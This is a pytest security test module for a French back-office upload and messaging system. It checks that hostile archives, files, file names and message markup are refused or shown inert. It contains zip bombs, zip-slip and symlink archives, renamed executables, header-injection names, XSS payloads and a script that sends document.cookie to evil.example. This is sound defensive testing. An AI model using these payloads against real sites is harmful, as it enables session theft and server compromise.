"""Attack corpus (issue 7): hostile files, file names and messages pushed through the real
HTTP interfaces — the vendor API with its token, the vérificateur's forms with their CSRF
token. Each entry is refused with its status, stable JSON code (API) or French message (UI)
and leaves nothing behind (no row, no byte in the file store), or is stored neutralised and
shown inert on every reviewer page that displays it.

The upload limits are lowered to 1 Mo for every purpose (this module's own app), so that the
oversized cases stay fast.
"""

from __future__ import annotations

import hashlib
import html
import io
import stat
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import func, select
from werkzeug.test import EnvironBuilder
from werkzeug.wrappers import Request

from backoffice import create_app
from backoffice.db import db
from backoffice.models import (
    AuditEvent,
    Candidature,
    Fichier,
    Message,
    OutboxMail,
    Piece,
    Preuve,
    ZipPourAvis,
)
from backoffice.storage import KINDS_DOCUMENT, UnsupportedType, with_matching_extension
from backoffice.workflow import convention, forms
from tests.conftest import base_config
from tests.factories import UserFactory
from tests.helpers import csrf_token, login
from tests.reviewer.conftest import desk  # noqa: F401 - the workspace fixture

MiB = 1024 * 1024
LIMIT_MB = 1
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17)
GIF = b"GIF89a" + bytes(20)
EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43)
       + b"\x80\x00\x00\x00" + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!"
       + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(64) + b"PE\x00\x00")
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00>\x00" + bytes(40)
HTML = (b"<!DOCTYPE html><html><body><h1>Facture</h1>"
        b"<script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n")

# --- the module's app: same database, own file store, 1 Mo limits --------------------------


@pytest.fixture(scope="module")
def app(engine, tmp_path_factory):
    """Overrides the suite's app in this module: conftest's `connection`, `ctx` and `client`
    (and so `desk`) run against it."""
    tmp = tmp_path_factory.mktemp("attack-corpus")
    limits = ",".join(f"{purpose}={LIMIT_MB}"
                      for purpose in ("piece", "preuve", "zip", "message", "convention"))
    app = create_app({**base_config(tmp, engine.url.render_as_string(hide_password=False)),
                      "UPLOAD_LIMITS_MB": limits})
    app.extensions["db_engine"].dispose()
    app.extensions["db_engine"] = engine
    return app


# --- hostile archives ---------------------------------------------------------------------


def _zip(entries: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def _patch_central_directory(data: bytes, **fields: int) -> bytes:
    """Rewrite fields of every central-directory record: what the uploader declares."""
    offsets = {"flag_bits": (8, "<H"), "compress_size": (20, "<L"), "file_size": (24, "<L")}
    out = bytearray(data)
    start = out.find(b"PK\x01\x02")
    while start >= 0:
        for name, value in fields.items():
            at, fmt = offsets[name]
            if name == "flag_bits":
                value |= struct.unpack_from(fmt, out, start + at)[0]
            struct.pack_into(fmt, out, start + at, value)
        start = out.find(b"PK\x01\x02", start + 4)
    return bytes(out)


def _patch_local_headers_flags(data: bytes, flag_bits: int) -> bytes:
    out = bytearray(data)
    start = out.find(b"PK\x03\x04")
    while start >= 0:
        struct.pack_into("<H", out, start + 6, struct.unpack_from("<H", out, start + 6)[0]
                         | flag_bits)
        start = out.find(b"PK\x03\x04", start + 4)
    return bytes(out)


def _symlink() -> zipfile.ZipInfo:
    link = zipfile.ZipInfo("INS 1.1.pdf")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return link


@cache
def zip_bomb() -> bytes:
    """4 Mio of zeros deflated to about 4 Kio (ratio about 1000:1)."""
    return _zip([("INS 1.1.pdf", PDF + bytes(4 * MiB))])


@cache
def zip_declaring_huge_sizes() -> bytes:
    """Two small entries whose headers announce 4 Gio each, at a plausible 100:1 ratio."""
    data = _zip([("INS 1.1.pdf", PDF), ("INS 1.2.pdf", PDF)])
    return _patch_central_directory(data, file_size=0xFFFF_FFF0, compress_size=0xFFFF_FFF0 // 100)


@cache
def zip_many_entries() -> bytes:
    return _zip([(f"f{i}.txt", b"") for i in range(5001)])


def zip_encrypted() -> bytes:
    data = _zip([("INS 1.1.pdf", PDF)])
    return _patch_local_headers_flags(_patch_central_directory(data, flag_bits=0x1), 0x1)


def zip_with(name: str | zipfile.ZipInfo, data: bytes = PDF) -> Callable[[], bytes]:
    return lambda: _zip([("INS 1.1.pdf", PDF), (name, data)])


def zip_with_raw_name(raw: bytes) -> Callable[[], bytes]:
    """A name zipfile would not write (control bytes): patched in after writing a placeholder."""
    def build() -> bytes:
        placeholder = b"#" * len(raw)
        return _zip([("INS 1.1.pdf", PDF), (placeholder.decode(), PDF)]).replace(placeholder, raw)
    return build


# --- sending multipart bodies as a hostile client would -----------------------------------


FilePart = tuple[str, str, bytes, str]  # form field, file name, bytes, declared content type


def multipart(fields: dict[str, str], files: list[FilePart]) -> tuple[bytes, str]:
    """A multipart/form-data body. File names go as RFC 5987 `filename*`, so that any
    character (NUL, CR LF, bidi overrides) reaches the server as sent."""
    boundary = "----corpus-7f3a9c"
    out = io.BytesIO()
    for name, value in fields.items():
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
                  .encode())
        out.write(value.encode() + b"\r\n")
    for field_name, filename, content, content_type in files:
        out.write(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field_name}\"; "
                  f"filename*=UTF-8''{quote(filename, safe='')}\r\n"
                  f"Content-Type: {content_type}\r\n\r\n".encode())
        out.write(content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


@dataclass
class Target:
    """Where an input goes: an API upload endpoint or a vérificateur form."""

    reference: str
    path: str
    file_field: str
    api: bool
    fields: dict[str, str] = field(default_factory=dict)


def target(desk, via: str) -> Target:  # noqa: F811
    """A candidature in the state the endpoint needs, and the endpoint."""
    if via == "api:piece":
        ref = desk.candidature(submit=False).reference
        return Target(ref, f"/api/v1/candidatures/{ref}/pieces", "file", True,
                      {"type": "documentation_fonctionnelle"})
    if via == "api:preuve":
        candidature = desk.candidature(until="preuves", submit=False)
        section = desk.driver().sections(candidature)[0]
        ref, exigence = candidature.reference, section.exigences[0].code
        return Target(ref, f"/api/v1/candidatures/{ref}/sections/{section.code}/exigences/"
                           f"{quote(exigence)}/preuves", "file", True)
    if via == "api:zip":
        candidature = desk.candidature("dmn_ligne_generique")
        forms.prendre(candidature, "recevabilite", actor=desk.me)
        forms.valider(candidature, "recevabilite", actor=desk.me)
        db.commit()
        ref = candidature.reference
        return Target(ref, f"/api/v1/candidatures/{ref}/preuves-pour-avis", "file", True)
    if via == "api:message":
        ref = desk.candidature().reference
        return Target(ref, f"/api/v1/candidatures/{ref}/messages", "attachments", True,
                      {"body": "Voici le document demandé."})
    if via == "ui:message":
        ref = desk.candidature().reference
        return Target(ref, f"/instruction/candidatures/{ref}/messages", "attachments", False,
                      {"body": "Voici la trame attendue.", "kind": "message"})
    if via == "ui:convention":
        candidature = desk.candidature()
        forms.prendre(candidature, "recevabilite", actor=desk.me)
        forms.valider(candidature, "recevabilite", actor=desk.me)
        convention.envoyer(candidature, actor=desk.me, signature_request_id="sr-corpus")
        db.commit()
        ref = candidature.reference
        return Target(ref, f"/instruction/candidatures/{ref}/convention/signature", "fichier",
                      False)
    raise AssertionError(via)


def send(client, path: str, fields: dict[str, str], files: list[FilePart],
         *, headers: dict[str, str] | None = None, chunked: bool = False,
         follow_redirects: bool = False):
    """POST a multipart body; `chunked` sends it without Content-Length, as a client using
    Transfer-Encoding: chunked does (gunicorn then sets wsgi.input_terminated)."""
    body, mimetype = multipart(fields, files)
    environ = EnvironBuilder(path=path, method="POST", input_stream=io.BytesIO(body),
                             content_type=mimetype, content_length=len(body),
                             headers=headers or {}).get_environ()
    if chunked:
        del environ["CONTENT_LENGTH"]
        environ["HTTP_TRANSFER_ENCODING"] = "chunked"
        environ["wsgi.input_terminated"] = True
    return client.open(Request(environ), follow_redirects=follow_redirects)


def post(desk, t: Target, files: list[tuple[str, bytes]], *,  # noqa: F811
         chunked: bool = False, content_type: str = "application/octet-stream",
         fields: dict[str, str] | None = None):
    """Send files (name, bytes) to a target, as the vendor (API token) or as the signed-in
    vérificateur (CSRF token); a form's redirect is followed to the page showing the result."""
    fields = {**t.fields, **(fields or {})}
    headers = {}
    if t.api:
        headers["Authorization"] = f"Bearer {desk.api.token}"
    else:
        fields["csrf_token"] = csrf_token(desk.client, "/instruction/")
    return send(desk.client, t.path, fields,
                [(t.file_field, name, content, content_type) for name, content in files],
                headers=headers, chunked=chunked, follow_redirects=not t.api)


# --- what is stored, and what a page shows ------------------------------------------------

COUNTED = (Fichier, Piece, Preuve, ZipPourAvis, Message, OutboxMail, AuditEvent)


def stored(app) -> tuple[dict[str, int], list[str]]:
    """Row counts of everything an upload or a message writes, and every file on disk
    (temporary ones included)."""
    db.expire_all()
    counts = {model.__tablename__: db.scalar(select(func.count()).select_from(model))
              for model in COUNTED}
    root = Path(app.config["STORAGE_DIR"])
    files = sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
    return counts, files


class Page(HTMLParser):
    """Tags, attributes, inline script bodies and text of a rendered page."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)

    def attribute_values(self) -> list[str]:
        return [value or "" for _, attrs in self.tags for _, value in attrs]


def assert_inert(markup: str, *shown: str) -> None:
    """Nothing hostile became markup, and each `shown` string is displayed as text (or kept
    in an attribute value) exactly."""
    page = Page(markup)
    handlers = [(tag, name) for tag, attrs in page.tags for name, _ in attrs
                if name.startswith("on")]
    assert handlers == [], f"event handler attributes in the page: {handlers}"
    assert not any("alert(" in script or "fetch(" in script for script in page.scripts)
    assert not [tag for tag, _ in page.tags if tag in ("svg", "iframe", "object", "embed")]
    assert not [attrs for tag, attrs in page.tags if tag == "img" and ("src", "x") in attrs]
    assert not any(v.strip().lower().startswith("javascript:") for v in page.attribute_values())
    assert "\u202e" not in markup and "\x00" not in markup and "\x1b" not in markup
    text = "".join(page.text)
    for value in shown:
        assert value in text or value in page.attribute_values(), f"{value!r} not shown"


def login_support(app):
    """Another browser, signed in at the support desk."""
    client = app.test_client()
    login(client, UserFactory(roles=["support"]))
    return client


# --- the corpus: refused, nothing stored --------------------------------------------------


ACCEPTED_DOCUMENTS = UnsupportedType(KINDS_DOCUMENT).message
TOO_LARGE = f"Le fichier dépasse la taille maximale autorisée ({LIMIT_MB} Mo)."
REQUEST_TOO_LARGE = "La requête dépasse la taille maximale autorisée."


@dataclass(frozen=True)
class Refused:
    via: str  # see target()
    content: bytes | Callable[[], bytes]
    status: int
    code: str  # the API's stable code; for the UI, the page is checked for `message`
    message: str  # the exact French message (API), or what the page says (UI)
    name: str = "document.pdf"
    chunked: bool = False  # no Content-Length
    before: tuple[tuple[str, bytes], ...] = ()  # good files sent first in the same request


    def body(self) -> bytes:
        return self.content() if callable(self.content) else self.content


def _archive(reason: str) -> str:
    return f"Archive refusée : {reason}."


REFUSED: dict[str, Refused] = {
    # archives
    "zip_bomb_ratio": Refused(
        "api:zip", zip_bomb, 422, "unsafe_archive",
        _archive("elle contient un fichier au taux de compression suspect"), "preuves.zip"),
    "zip_bomb_declared_size": Refused(
        "api:zip", zip_declaring_huge_sizes, 422, "unsafe_archive",
        _archive("elle est trop volumineuse une fois décompressée (plus de 4 Go)"),
        "preuves.zip"),
    "zip_bomb_entry_count": Refused(
        "api:zip", zip_many_entries, 422, "unsafe_archive",
        _archive("elle contient trop de fichiers (plus de 5 000)"), "preuves.zip"),
    "zip_bomb_as_preuve": Refused(
        "api:preuve", zip_bomb, 422, "unsafe_archive",
        _archive("elle contient un fichier au taux de compression suspect"), "preuve.zip"),
    "zip_slip_parent": Refused(
        "api:zip", zip_with("../../../home/backoffice/.bashrc"), 422, "unsafe_archive",
        _archive("elle contient un chemin qui remonte dans l'arborescence (« .. »)"),
        "preuves.zip"),
    "zip_slip_parent_backslash": Refused(
        "api:zip", zip_with("INS\\..\\..\\evil.pdf"), 422, "unsafe_archive",
        _archive("elle contient un chemin qui remonte dans l'arborescence (« .. »)"),
        "preuves.zip"),
    "zip_slip_absolute": Refused(
        "api:zip", zip_with("/etc/cron.d/evil"), 422, "unsafe_archive",
        _archive("elle contient un chemin absolu"), "preuves.zip"),
    "zip_slip_windows_drive": Refused(
        "api:zip", zip_with("C:\\Windows\\System32\\evil.dll"), 422, "unsafe_archive",
        _archive("elle contient un chemin absolu"), "preuves.zip"),
    "zip_slip_as_preuve": Refused(
        "api:preuve", zip_with("../evil.pdf"), 422, "unsafe_archive",
        _archive("elle contient un chemin qui remonte dans l'arborescence (« .. »)"),
        "preuve.zip"),
    "zip_symlink_entry": Refused(
        "api:zip", lambda: _zip([(_symlink(), b"/etc/passwd")]), 422, "unsafe_archive",
        _archive("elle contient un lien symbolique"), "preuves.zip"),
    "zip_encrypted_entry": Refused(
        "api:zip", zip_encrypted, 422, "unsafe_archive",
        _archive("elle contient un fichier chiffré ou protégé par mot de passe"), "preuves.zip"),
    "zip_corrupt": Refused(
        "api:zip", b"PK\x03\x04" + bytes(range(256)) * 4, 422, "unsafe_archive",
        _archive("elle est corrompue ou illisible"), "preuves.zip"),
    "zip_entry_name_rtl_override": Refused(
        "api:zip", zip_with("INS 1.2 capture\u202efdp.exe"), 422, "unsafe_archive",
        _archive("elle contient un nom de fichier avec des caractères de contrôle ou "
                 "d'inversion du sens d'écriture"), "preuves.zip"),
    "zip_entry_name_control_characters": Refused(
        "api:zip", zip_with_raw_name(b"INS 1.2\r\nX-Injected: 1.pdf"), 422, "unsafe_archive",
        _archive("elle contient un nom de fichier avec des caractères de contrôle ou "
                 "d'inversion du sens d'écriture"), "preuves.zip"),
    "pdf_where_a_zip_is_expected": Refused(
        "api:zip", PDF, 415, "unsupported_type",
        "Type de fichier non accepté : seul le format ZIP est accepté.", "preuves.zip"),
    # content that does not match its name
    "exe_renamed_pdf": Refused("api:piece", EXE, 415, "unsupported_type", ACCEPTED_DOCUMENTS),
    "elf_renamed_pdf": Refused("api:piece", ELF, 415, "unsupported_type", ACCEPTED_DOCUMENTS),
    "gif_renamed_pdf": Refused("api:piece", GIF, 415, "unsupported_type", ACCEPTED_DOCUMENTS),
    "zip_as_a_piece": Refused("api:piece", zip_with("a.pdf"), 415, "unsupported_type",
                              ACCEPTED_DOCUMENTS),
    "exe_renamed_pdf_as_preuve": Refused("api:preuve", EXE, 415, "unsupported_type",
                                         UnsupportedType(KINDS_DOCUMENT | {"zip"}).message),
    "exe_attached_to_a_message": Refused("api:message", EXE, 415, "unsupported_type",
                                         ACCEPTED_DOCUMENTS),
    "exe_after_a_good_attachment": Refused(
        "api:message", EXE, 415, "unsupported_type", ACCEPTED_DOCUMENTS,
        before=(("bon.pdf", PDF), ("autre.pdf", PDF))),
    "exe_attached_by_a_verificateur": Refused(
        "ui:message", EXE, 200, "", f"Pièce jointe refusée : {ACCEPTED_DOCUMENTS}",
        before=(("trame.pdf", PDF),)),
    "html_as_signed_convention": Refused(
        "ui:convention", HTML, 200, "",
        "Type de fichier non accepté : seul le format PDF est accepté.", "convention.pdf"),
    "png_as_signed_convention": Refused(
        "ui:convention", PNG, 200, "",
        "Type de fichier non accepté : seul le format PDF est accepté.", "convention.pdf"),
    # empty and oversized
    "empty_piece": Refused("api:piece", b"", 422, "empty_file", "Le fichier est vide."),
    "empty_message_attachment": Refused("api:message", b"", 422, "empty_file",
                                        "Le fichier est vide."),
    "empty_attachment_by_a_verificateur": Refused(
        "ui:message", b"", 200, "", "Pièce jointe refusée : Le fichier est vide."),
    "oversized_declared_length": Refused(
        "api:piece", PDF + bytes(LIMIT_MB * MiB + 100 * 1024), 413, "file_too_large", TOO_LARGE),
    "oversized_streamed_without_length": Refused(
        "api:piece", PDF + bytes(LIMIT_MB * MiB), 413, "file_too_large", TOO_LARGE,
        chunked=True),
    "oversized_request_without_length": Refused(
        "api:piece", PDF + bytes(3 * LIMIT_MB * MiB), 413, "file_too_large", REQUEST_TOO_LARGE,
        chunked=True),
    "oversized_zip": Refused(
        "api:zip", lambda: _zip([("INS 1.1.pdf", bytes(range(256)) * (5 * 1024))])
        + bytes(LIMIT_MB * MiB), 413, "file_too_large", TOO_LARGE, "preuves.zip"),
    "oversized_message_attachment": Refused(
        "api:message", PDF + bytes(LIMIT_MB * MiB), 413, "file_too_large", TOO_LARGE,
        chunked=True),
    "oversized_attachment_by_a_verificateur": Refused(
        "ui:message", PDF + bytes(LIMIT_MB * MiB), 200, "",
        f"Pièce jointe refusée : {TOO_LARGE}"),
    "oversized_request_by_a_verificateur": Refused(
        "ui:message", PDF + bytes(2 * LIMIT_MB * MiB), 413, "",
        "Le fichier dépasse la taille autorisée."),
    "oversized_request_by_a_verificateur_without_length": Refused(
        "ui:message", PDF + bytes(2 * LIMIT_MB * MiB), 413, "",
        "Le fichier dépasse la taille autorisée.", chunked=True),
}


def _param(key: str, case: Refused) -> Any:
    return pytest.param(case, id=key)


@pytest.mark.parametrize("case", [_param(k, c) for k, c in REFUSED.items()])
def test_refused_with_a_clear_error_and_nothing_stored(app, desk, case: Refused) -> None:  # noqa: F811
    t = target(desk, case.via)
    before = stored(app)
    response = post(desk, t, [*case.before, (case.name, case.body())], chunked=case.chunked)
    assert response.status_code == case.status, response.get_data(as_text=True)[:500]
    if t.api:
        assert response.mimetype == "application/json"
        assert response.json == {"code": case.code, "message": case.message}
    else:
        assert case.message in html.unescape(response.get_data(as_text=True))
    assert stored(app) == before


@pytest.mark.parametrize("chunked", [False, True], ids=["with_length", "without_length"])
def test_a_body_over_every_limit_is_refused_before_it_is_read(app, client, chunked: bool) -> None:
    """Anyone can POST to the login form: its body must be capped like an upload's."""
    response = send(client, "/connexion", {"email": "a@b.fr", "password": "x"},
                    [("file", "gros.bin", bytes(3 * LIMIT_MB * MiB), "application/octet-stream")],
                    chunked=chunked)
    assert response.status_code == 413
    assert "Le fichier dépasse la taille autorisée." in response.get_data(as_text=True)


# --- neutralised: stored under a harmless name, shown inert -------------------------------

# raw name as sent -> display name kept
NAMES: dict[str, tuple[str, str]] = {
    "unix_path_traversal": ("../../etc/passwd", "passwd"),
    "windows_path": ("C:\\windows\\system32\\x.pdf", "x.pdf"),
    "only_dots": ("..", "fichier"),
    "nul_byte": ("rapport\x00.pdf", "rapport.pdf"),
    "nul_before_extension": ("rapport.pdf\x00.exe", "rapport.pdf.exe"),
    "control_characters": ("rapport\r\nX-Injected: 1\x1b[31m\x07\x7f.pdf",
                           "rapport X-Injected: 1[31m.pdf"),
    "rtl_override": ("facture\u202efdp.exe", "facturefdp.exe"),
    "bidi_isolates_and_zero_width": ("\u2067devis\u2069\u200b.pdf", "devis.pdf"),
    "very_long": ("é" * 1000 + ".pdf", "é" * 196 + ".pdf"),
    "script_tag": ("<script>alert(1)</script>.pdf", "script>.pdf"),
    "attribute_breakout": ('"><img src=x onerror=alert(1)>.pdf',
                           '"><img src=x onerror=alert(1)>.pdf'),
    "svg_onload": ("<svg onload=alert(1)>.pdf", "<svg onload=alert(1)>.pdf"),
    "javascript_url": ("javascript:alert(1)//.pdf", "pdf"),
}
CHANNELS = ("api:piece", "api:message", "ui:message")


def _pages(via: str, ref: str) -> list[tuple[str, bool]]:
    """The reviewer pages that list what went through `via`: (path, lists file names)."""
    base = f"/instruction/candidatures/{ref}"
    if via == "api:piece":
        return [(f"{base}?onglet=pieces", True)]
    if via == "api:preuve":
        return [(f"{base}?onglet=preuves", False), (f"{base}/sections/{ref_section(ref)}", True)]
    if via == "api:zip":
        return [(f"{base}/pour-avis", True)]
    return [(f"{base}?onglet=messagerie", True)]


def ref_section(ref: str) -> str:
    from backoffice.models import SectionReview

    candidature = db.scalar(select(Candidature).where(Candidature.reference == ref))
    return db.scalar(select(SectionReview.code).where(
        SectionReview.candidature_id == candidature.id).order_by(SectionReview.position))


def assert_download_is_safe(desk, fichier: Fichier) -> None:  # noqa: F811
    response = desk.client.get(f"/instruction/fichiers/{fichier.id}")
    assert response.status_code == 200
    assert hashlib.sha256(response.data).hexdigest() == fichier.sha256
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=\"")
    ascii_name = disposition.split('filename="', 1)[1].split('"; filename*=', 1)[0]
    assert '"' not in ascii_name and not any(ord(c) < 32 for c in disposition)
    assert disposition.endswith(f"filename*=UTF-8''{quote(fichier.original_name)}")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("via", CHANNELS)
@pytest.mark.parametrize(("raw", "clean"), [pytest.param(*v, id=k) for k, v in NAMES.items()])
def test_hostile_file_names_are_sanitised_and_shown_inert(
        app, desk, via: str, raw: str, clean: str) -> None:  # noqa: F811
    t = target(desk, via)
    clean = with_matching_extension(clean, "pdf")  # a PDF's name ends in .pdf
    response = post(desk, t, [(raw, PDF)])
    assert response.status_code == (201 if t.api else 200), response.get_data(as_text=True)
    fichier = db.scalar(select(Fichier).order_by(Fichier.id.desc()).limit(1))
    assert fichier.original_name == clean
    assert fichier.kind == "pdf" and fichier.sha256 == hashlib.sha256(PDF).hexdigest()
    assert Path(app.config["STORAGE_DIR"], fichier.storage_key).read_bytes() == PDF
    if t.api:
        file_json = response.json["file"] if via == "api:piece" else \
            response.json["attachments"][0]
        assert file_json["name"] == clean
    for page, lists_names in _pages(via, t.reference):
        assert_inert(desk.client.get(page).get_data(as_text=True), *[clean] * lists_names)
    support = login_support(app)
    desk_page = support.get("/support/", query_string={"reference": t.reference})
    assert_inert(desk_page.get_data(as_text=True), clean)
    assert_download_is_safe(desk, fichier)


@pytest.mark.parametrize("via", ["api:preuve", "api:zip"])
def test_hostile_names_of_preuves_and_zips_are_shown_inert(app, desk, via: str) -> None:  # noqa: F811
    suffix, content = (".zip", _zip([("INS 1.1.pdf", PDF)])) if via == "api:zip" else (".pdf", PDF)
    raw, clean = '"><svg onload=alert(1)>\u202e' + suffix, '"><svg onload=alert(1)>' + suffix
    t = target(desk, via)
    response = post(desk, t, [(raw, content)])
    assert response.status_code == 201, response.json
    for page, lists_names in _pages(via, t.reference):
        assert_inert(desk.client.get(page).get_data(as_text=True), *[clean] * lists_names)
    support = login_support(app)
    desk_page = support.get("/support/", query_string={"reference": t.reference, "nom": "svg"})
    assert_inert(desk_page.get_data(as_text=True), clean)


@pytest.mark.parametrize(("declared", "content", "kind", "content_type", "name"), [
    pytest.param("image/png", PDF, "pdf", "application/pdf", "document.pdf",
                 id="pdf_declared_as_image"),
    pytest.param("application/pdf", PNG, "png", "image/png", "document.pdf.png",
                 id="png_declared_as_pdf"),
    pytest.param("application/pdf", HTML, "text", "text/plain; charset=utf-8",
                 "document.pdf.txt", id="html_renamed_pdf"),
])
def test_declared_type_is_ignored_and_content_decides(
        app, desk, declared: str, content: bytes, kind: str, content_type: str,  # noqa: F811
        name: str) -> None:
    """The part's Content-Type and the name's extension are the sender's claims; what is
    recorded and served comes from the bytes. HTML is plain text to us: accepted where text
    documents are, served as text/plain attachment with nosniff, never previewed inline.
    The name gets the content's extension when it says something else, so that a
    downloaded file opens with the program its bytes are for (never as a web page)."""
    t = target(desk, "api:piece")
    response = post(desk, t, [("document.pdf", content)], content_type=declared)
    assert response.status_code == 201, response.json
    assert response.json["file"]["content_type"] == content_type
    fichier = db.get(Fichier, response.json["file"]["id"])
    assert fichier.kind == kind
    assert fichier.original_name == name
    download = desk.client.get(f"/instruction/fichiers/{fichier.id}")
    assert download.headers["Content-Type"] == content_type
    assert download.headers["Content-Disposition"].startswith(f'attachment; filename="{name}"')
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    preview = desk.client.get(f"/instruction/fichiers/{fichier.id}/apercu")
    if kind == "text":
        assert preview.status_code == 404
    elif kind == "pdf":  # the safe viewer, never the PDF itself
        assert preview.mimetype == "text/html"
    else:
        assert preview.headers["Content-Type"] == content_type
        assert preview.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


# --- nested archives: flagged for the vérificateur, never opened ---------------------------


def test_nested_archives_are_accepted_flagged_and_never_extracted(app, desk) -> None:  # noqa: F811
    """Design (evidence-review.md): nested archives in the ligne générique zip are reported to
    the vérificateur, not refused; the server never opens them (a bomb inside stays inert)."""
    t = target(desk, "api:zip")
    before_files = stored(app)[1]
    content = _zip([("INS 1.1.pdf", PDF), ("annexes/bombe.zip", zip_bomb()),
                    ("annexes/journaux.tar.gz", b"\x1f\x8b\x08\x00" + bytes(40)),
                    ("<svg onload=alert(1)>.pdf", PDF)])
    response = post(desk, t, [("preuves.zip", content)])
    assert response.status_code == 201, response.json
    assert response.json["nested_archives"] == ["annexes/bombe.zip", "annexes/journaux.tar.gz"]
    entry = next(e for e in response.json["entries"] if e["name"] == "annexes/bombe.zip")
    assert entry["size"] == len(zip_bomb())  # the inner archive as bytes, not its contents
    assert len(stored(app)[1]) == len(before_files) + 1  # the archive itself, nothing extracted
    page = desk.client.get(f"/instruction/candidatures/{t.reference}/pour-avis")
    markup = page.get_data(as_text=True)
    assert_inert(markup, "annexes/bombe.zip", "annexes/journaux.tar.gz",
                 "<svg onload=alert(1)>.pdf")
    assert "Archives imbriquées" in markup
    # The inner archive is served as opaque bytes, as an attachment.
    inner = desk.client.get(f"/instruction/candidatures/{t.reference}/pour-avis/"
                            f"{db.scalar(select(func.max(ZipPourAvis.id)))}/entree",
                            query_string={"nom": "annexes/bombe.zip"})
    assert inner.status_code == 200 and inner.data == zip_bomb()
    assert inner.headers["Content-Disposition"].startswith("attachment;")


# --- script and markup in messages --------------------------------------------------------

MARKUP = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
          "<svg/onload=alert(1)>", '<a href="javascript:alert(1)">cliquez</a>',
          "<iframe src=https://evil.example></iframe>", "</div></li></ol><script>alert(2)</script>")


def test_markup_in_a_vendor_message_is_shown_as_text(app, desk) -> None:  # noqa: F811
    ref = desk.candidature().reference
    body = "Bonjour,\n" + "\n".join(MARKUP)
    subject = '<svg onload=alert(1)>"><script>alert(3)</script>'
    response = desk.api.post(f"/candidatures/{ref}/messages", {"subject": subject, "body": body})
    assert response.status_code == 201, response.json
    message = db.get(Message, response.json["id"])
    assert (message.subject, message.body) == (subject, body)  # kept as written, escaped on output
    thread = desk.client.get(f"/instruction/candidatures/{ref}?onglet=messagerie")
    assert_inert(thread.get_data(as_text=True), body, subject)


def test_markup_in_a_verificateur_message_is_shown_as_text(app, desk) -> None:  # noqa: F811
    t = target(desk, "ui:message")
    body = "Merci de corriger :\n" + "\n".join(MARKUP)
    for kind in ("message", "note_interne"):
        response = post(desk, t, [], fields={"body": body, "kind": kind})
        assert response.status_code == 200
    assert_inert(response.get_data(as_text=True), body)
    vendor_view = desk.api.get(f"/candidatures/{t.reference}/messages").json["items"]
    assert [m["body"] for m in vendor_view if m["body"] == body] == [body]  # not the note


INVALID_FIELDS = ("validation_error", "Certains champs sont invalides.")
INVALID_CHARACTERS = ("invalid_characters",
                      "Certains champs contiennent des caractères non autorisés.")


@pytest.mark.parametrize(("data", "error", "fields"), [
    pytest.param({"body": "a\x00b"}, INVALID_CHARACTERS, {"body": "Caractère NUL interdit."},
                 id="nul_in_body"),
    pytest.param({"body": "x", "subject": "s" * 201}, INVALID_FIELDS,
                 {"subject": "200 caractères au plus."}, id="subject_too_long"),
    pytest.param({"body": "x" * 20_001}, INVALID_FIELDS, {"body": "20000 caractères au plus."},
                 id="body_too_long"),
])
def test_invalid_vendor_messages_are_refused_and_nothing_stored(
        app, desk, data: dict[str, Any], error: tuple[str, str],  # noqa: F811
        fields: dict[str, str]) -> None:
    """(Lone surrogates, control characters, hostile JSON: tests/security/
    test_hostile_input.py.)"""
    ref = desk.candidature().reference
    before = stored(app)
    response = desk.api.post(f"/candidatures/{ref}/messages", data)
    assert response.status_code == 422
    assert response.json == {"code": error[0], "message": error[1],
                             "details": {"fields": fields}}
    assert stored(app) == before
